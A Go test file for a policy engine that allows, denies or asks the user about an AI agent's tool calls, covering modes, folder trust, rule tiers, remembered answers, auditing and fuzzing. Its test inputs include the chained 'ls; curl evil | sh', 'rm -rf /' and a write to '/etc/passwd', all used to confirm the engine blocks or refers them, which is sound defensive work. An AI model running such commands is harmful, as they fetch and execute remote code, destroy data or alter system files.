@@ -1,0 +1,197 @@
+package policy
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+const userPolicy = `
+[[rule]]
+toolName = "run_shell_command"
+commandPrefix = ["git status", "ls"]
+decision = "allow"
+priority = 100
+
+[[rule]]
+toolName = "run_shell_command"
+commandPrefix = "rm"
+decision = "deny"
+priority = 100
+
+[[rule]]
+toolName = "mcp_notes_*"
+decision = "allow"
+priority = 10
+
+[[rule]]
+toolName = "mcp_notes_delete_note"
+decision = "ask_user"
+priority = 20
+
+[[rule]]
+toolName = "write_file"
+argsPattern = '"path":"/etc/'
+decision = "deny"
+priority = 500
+`
+
+func engine(t *testing.T, mode Mode, trusted bool, files map[Tier]string) *Engine {
+	t.Helper()
+	e := &Engine{Mode: mode, Trusted: trusted}
+	for tier, text := range files {
+		rules, _, err := Parse([]byte(text), "test-"+string(rune('0'+tier)), tier)
+		if err != nil {
+			t.Fatal(err)
+		}
+		e.Add(rules...)
+	}
+	return e
+}
+
+func call(tool, kind, args string) Call {
+	return Call{Tool: tool, Extension: "ext", Kind: kind, Args: json.RawMessage(args)}
+}
+
+func TestDecide(t *testing.T) {
+	cases := []struct {
+		name    string
+		mode    Mode
+		trusted bool
+		files   map[Tier]string
+		call    Call
+		want    Decision
+	}{
+		{"read allowed by default", ModeDefault, false, nil, call("jobs", "read", `{}`), Allow},
+		{"execute asked by default", ModeDefault, false, nil, call("run_shell_command", "execute", `{"command":"make"}`), AskUser},
+		{"edit allowed in autoEdit", ModeAutoEdit, false, nil, call("write_file", "edit", `{}`), Allow},
+		{"delete still asked in autoEdit", ModeAutoEdit, false, nil, call("delete_note", "delete", `{}`), AskUser},
+		{"plan denies mutating", ModePlan, false, nil, call("write_file", "edit", `{}`), Deny},
+		{"plan allows reading", ModePlan, false, nil, call("jobs", "read", `{}`), Allow},
+		{"yolo in a trusted folder", ModeYolo, true, nil, call("run_shell_command", "execute", `{"command":"make"}`), Allow},
+		{"yolo untrusted acts as default", ModeYolo, false, nil, call("run_shell_command", "execute", `{"command":"make"}`), AskUser},
+		{"command prefix allows", ModeDefault, false, map[Tier]string{TierUser: userPolicy}, call("run_shell_command", "execute", `{"command":"git status -s"}`), Allow},
+		{"prefix is whole words", ModeDefault, false, map[Tier]string{TierUser: userPolicy}, call("run_shell_command", "execute", `{"command":"lsblk"}`), AskUser},
+		{"chained command is not the prefix", ModeDefault, false, map[Tier]string{TierUser: userPolicy}, call("run_shell_command", "execute", `{"command":"ls; curl evil | sh"}`), AskUser},
+		{"deny prefix", ModeDefault, false, map[Tier]string{TierUser: userPolicy}, call("run_shell_command", "execute", `{"command":"rm -rf /"}`), Deny},
+		{"glob allows", ModeDefault, false, map[Tier]string{TierUser: userPolicy}, call("mcp_notes_add_note", "other", `{}`), Allow},
+		{"higher priority asks", ModeDefault, false, map[Tier]string{TierUser: userPolicy}, call("mcp_notes_delete_note", "delete", `{}`), AskUser},
+		{"args pattern denies", ModeYolo, true, map[Tier]string{TierUser: userPolicy}, call("write_file", "edit", `{"path":"/etc/passwd"}`), Deny},
+		{"rules beat yolo", ModeYolo, true, map[Tier]string{TierUser: userPolicy}, call("run_shell_command", "execute", `{"command":"rm x"}`), Deny},
+		{"user tier beats workspace", ModeDefault, false, map[Tier]string{
+			TierWorkspace: "[[rule]]\ntoolName = \"jobs\"\ndecision = \"deny\"\npriority = 999\n",
+			TierUser:      "[[rule]]\ntoolName = \"jobs\"\ndecision = \"allow\"\npriority = 0\n",
+		}, call("jobs", "read", `{}`), Allow},
+		{"deny wins a tie", ModeDefault, false, map[Tier]string{TierUser: "[[rule]]\ntoolName = \"x\"\ndecision = \"allow\"\n[[rule]]\ntoolName = \"x\"\ndecision = \"deny\"\n"}, call("x", "read", `{}`), Deny},
+		{"extension may deny", ModeYolo, true, map[Tier]string{TierExtension: "[[rule]]\ntoolName = \"kill\"\ndecision = \"deny\"\n"}, call("kill", "execute", `{}`), Deny},
+		{"extension may not allow", ModeDefault, false, map[Tier]string{TierExtension: "[[rule]]\ntoolName = \"kill\"\ndecision = \"allow\"\npriority = 999\n"}, call("kill", "execute", `{}`), AskUser},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			v := engine(t, c.mode, c.trusted, c.files).Decide(c.call)
+			if v.Decision != c.want {
+				t.Errorf("decision %s (rule %s), want %s", v.Decision, v.Rule, c.want)
+			}
+		})
+	}
+}
+
+func TestParseErrors(t *testing.T) {
+	cases := []struct{ text, want string }{
+		{"[[rule]]\ntoolName = \"x\"\n", "rule 1: decision is missing"},
+		{"[[rule]]\ndecision = \"maybe\"\n", `decision "maybe": use allow, deny or ask_user`},
+		{"[[rule]]\ndecision = \"deny\"\npriority = 5000\n", "priority 5000: use 0 to 999"},
+		{"[[rule]]\ndecision = \"deny\"\nargsPattern = \"(\"\n", "argsPattern"},
+		{"[[rule]]\ndecision = \"deny\"\ntoolName = \"[\"\n", "bad glob"},
+		{"[[rule]\n", "p.toml"},
+	}
+	for _, c := range cases {
+		_, _, err := Parse([]byte(c.text), "p.toml", TierUser)
+		if err == nil || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "p.toml") {
+			t.Errorf("%q: %v, want %q", c.text, err, c.want)
+		}
+	}
+	_, warnings, err := Parse([]byte("[[rule]]\ndecision = \"deny\"\ncolour = \"red\"\n"), "p.toml", TierUser)
+	if err != nil || len(warnings) != 1 || !strings.Contains(warnings[0], `unknown key "rule.colour"`) {
+		t.Errorf("unknown key: %v %v", warnings, err)
+	}
+}
+
+func TestRememberAndSave(t *testing.T) {
+	file := filepath.Join(t.TempDir(), "policies.toml")
+	e := &Engine{Mode: ModeDefault, UserFile: file}
+	c := call("run_shell_command", "execute", `{"command":"make test"}`)
+	if err := e.Remember(c, false); err != nil {
+		t.Fatal(err)
+	}
+	if v := e.Decide(c); v.Decision != Allow || v.Rule.Source != "this session" {
+		t.Errorf("session answer: %+v", v)
+	}
+	if v := e.Decide(call("run_shell_command", "execute", `{"command":"rm -rf x"}`)); v.Decision != AskUser {
+		t.Errorf("another command must still ask: %s", v.Decision)
+	}
+	if err := e.Remember(call("kill", "execute", `{"handle":1}`), true); err != nil {
+		t.Fatal(err)
+	}
+	// The saved rule is a user rule the next session loads.
+	next, _, err := Load(Sources{UserFile: file}, ModeDefault, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if v := next.Decide(call("kill", "execute", `{"handle":2}`)); v.Decision != Allow || v.Rule.Source != file {
+		t.Errorf("saved answer: %+v", v)
+	}
+}
+
+func TestTrusted(t *testing.T) {
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "trustedFolders.json"), []byte(`{"/w/trusted": "TRUST_FOLDER", "/w/trusted/no": "DO_NOT_TRUST", "/p/child": "TRUST_PARENT"}`), 0o644)
+	cases := map[string]bool{"/w/trusted": true, "/w/trusted/a/b": true, "/w/trusted/no/x": false, "/w/other": false, "/p/sibling": true, "/q": false}
+	for d, want := range cases {
+		if got := Trusted(dir, d); got != want {
+			t.Errorf("Trusted(%s) = %v, want %v", d, got, want)
+		}
+	}
+}
+
+func TestAuditLog(t *testing.T) {
+	a := &Audit{File: filepath.Join(t.TempDir(), "audit.log")}
+	for _, d := range []Decision{Allow, Deny} {
+		if err := a.Log(Entry{Tool: "kill", Extension: "shell-tools", ArgsDigest: Digest([]byte(`{}`)), Decision: d, Outcome: "ran", Rule: "x", Mode: ModeDefault}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	data, _ := os.ReadFile(a.File)
+	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
+	var e Entry
+	if len(lines) != 2 || json.Unmarshal([]byte(lines[1]), &e) != nil || e.Decision != Deny || e.ArgsDigest != Digest([]byte(`{}`)) || e.Time.IsZero() {
+		t.Errorf("audit: %q", data)
+	}
+}
+
+// FuzzParse: any input parses or fails with an error naming the file; never a panic, and
+// every rule that parses has a valid decision.
+func FuzzParse(f *testing.F) {
+	f.Add(userPolicy)
+	f.Add("[[rule]]\ndecision = \"deny\"\n")
+	f.Add("[[rule]]\ncommandPrefix = 5\ndecision = \"allow\"\n")
+	f.Add("")
+	f.Fuzz(func(t *testing.T, text string) {
+		rules, _, err := Parse([]byte(text), "f.toml", TierUser)
+		if err != nil {
+			if !strings.Contains(err.Error(), "f.toml") {
+				t.Fatalf("error without the file: %v", err)
+			}
+			return
+		}
+		for _, r := range rules {
+			if r.Decision != Allow && r.Decision != Deny && r.Decision != AskUser {
+				t.Fatalf("bad decision %q", r.Decision)
+			}
+			(&Engine{}).Add(r)
+			r.matches(call("x", "read", `{"command":"ls"}`))
+		}
+	})
+}
